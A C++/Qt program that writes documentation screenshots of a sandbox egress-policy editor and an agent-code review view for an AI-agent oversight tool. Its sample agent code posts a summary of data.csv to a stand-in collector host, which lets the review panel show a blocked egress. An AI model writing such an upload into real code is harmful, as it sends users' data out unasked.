// SPDX-License-Identifier: Apache-2.0
// Writes the egress screenshots of docs/screenshots (not a test; see CMakeLists.txt):
//   egress-editor.png   the policy editor of a live sandbox with an allow-list, a redundant and an
//                       invalid entry, and "test a host" answered
//   review-reach.png    a review whose code reaches a host the sandbox's policy blocks
// Run under a display (docs/screenshots/take-egress.sh starts Xvfb) with KOSA8_STANDIN set.
#include "agent/payload/PayloadShapes.h"
#include "agent/review/InboxModel.h"
#include "agent/review/ReviewCoordinator.h"
#include "egress/EgressEditor.h"
#include "egress/EgressEditorDialog.h"
#include "egress/ReachPanel.h"
#include "inbox/ReviewView.h"
#include "kosa8/SandboxListModel.h"
#include "plumbing/AppContext.h"

#include <QApplication>
#include <QDir>
#include <QLineEdit>
#include <QProcess>
#include <QTemporaryDir>
#include <QTimer>
#include <QTreeWidget>

using namespace k8;

namespace {

// Holds one request for the view; decisions go nowhere (nothing is decided in a screenshot).
class ShotCoordinator : public agent::ReviewCoordinator
{
public:
    ShotCoordinator()
        : m_inbox(new agent::InboxModel(this))
    {}
    agent::InboxModel* inbox() const override { return m_inbox; }
    const agent::Request* request(quint64 key) const override { return m_inbox->find(key); }
    bool decide(quint64, const agent::PersonDecision&, QString*) override { return false; }
    bool addApproveActionRule(quint64, const agent::PersonDecision&, QString*, const QString&) override
    {
        return false;
    }
    bool addRejectAgentRule(const QString&, QString*, const QString&) override { return false; }
    void add(const agent::Request& request)
    {
        m_inbox->append(request);
        Q_EMIT requestQueued(request.key);
    }

private:
    agent::InboxModel* m_inbox;
};

void save(QWidget* widget, const QString& path)
{
    if (!widget->grab().save(path))
        qFatal("cannot write %s", qPrintable(path));
    qInfo("wrote %s", qPrintable(path));
}

} // namespace

int main(int argc, char** argv)
{
    QApplication app(argc, argv);
    const QString out = argc > 1 ? QString::fromLocal8Bit(argv[1]) : QDir::currentPath();
    QTemporaryDir dir;
    qputenv("KOSA8_STANDIN_STATE", QFile::encodeName(dir.filePath(QStringLiteral("state"))));
    QDir(dir.path()).mkpath(QStringLiteral("data"));
    app::AppOptions options;
    options.kosa8Path = qEnvironmentVariable("KOSA8_STANDIN");
    options.dataDir = dir.filePath(QStringLiteral("data"));
    app::AppContext context(options);

    // 1. The editor of a live sandbox.
    const auto current = kosa8::EgressPolicy::parse(QStringLiteral("allow:pypi.org,files.pythonhosted.org"));
    app::EgressEditorDialog editor(&context, QStringLiteral("data-analysis"), current);
    editor.resize(900, 780);
    editor.show();
    editor.addEntry(QStringLiteral("*.pythonhosted.org"), QStringLiteral("wheels on any mirror"));
    editor.addEntry(QStringLiteral("bücher.example"), QStringLiteral("book catalogue API"));
    editor.addEntry(QStringLiteral("10.0.0.0/8:5432"), QStringLiteral("office Postgres"));
    // An entry mistyped in the table: shown in red with the reason, and Apply waits for a fix.
    policy::EgressRules rules = editor.rules();
    rules.items.append({QStringLiteral("10.0.0.0/33"), QStringLiteral("old VPN range")});
    editor.editor()->setRules(rules);
    editor.editor()->newEntryEdit()->setText(QStringLiteral("huggingface.co"));
    editor.editor()->testHost(QStringLiteral("cdn.pythonhosted.org:443"));
    editor.editor()->choosePreset(QStringLiteral("GitHub"));

    // 2. A review whose code reaches a blocked host.
    kosa8::SandboxListModel sandboxes;
    kosa8::Sandbox box;
    box.name = QStringLiteral("data-analysis");
    box.status = QStringLiteral("running");
    box.egress = current;
    sandboxes.setSandboxes({box});
    ShotCoordinator coordinator;
    app::ReviewView review(&coordinator);
    review.setSandboxModel(&sandboxes);
    review.resize(1100, 860);
    agent::Request request;
    agent::RpcError error;
    agent::RunDefaults defaults;
    defaults.sandbox = QStringLiteral("data-analysis");
    const QString code =
        QStringLiteral("import subprocess\nimport requests\n\n"
                       "subprocess.run([\"pip\", \"install\", \"pandas\"], check=True)\n"
                       "import pandas as pd\n\n"
                       "df = pd.read_csv(\"data.csv\")\n"
                       "summary = df.describe().to_json()\n"
                       "requests.post(\"https://collector.example.net/upload\", data=summary)\n"
                       "print(summary)\n");
    if (!agent::requestFromRun(
            {{QStringLiteral("code"), code}, {QStringLiteral("title"), QStringLiteral("Summarise data.csv")}},
            QJsonValue(1), defaults, &request, &error))
        qFatal("%s", qPrintable(error.message));
    request.key = 1;
    request.agent = QStringLiteral("analyst-agent");
    request.receivedAt = QDateTime::currentDateTimeUtc();
    coordinator.add(request);
    review.show();
    review.showRequest(1);
    review.reachPanel()->selectFinding(review.reachPanel()->findings().size() - 1);

    QTimer::singleShot(800, &app, [&] {
        save(&editor, QDir(out).filePath(QStringLiteral("egress-editor.png")));
        save(&review, QDir(out).filePath(QStringLiteral("review-reach.png")));
        app.quit();
    });
    return app.exec();
}
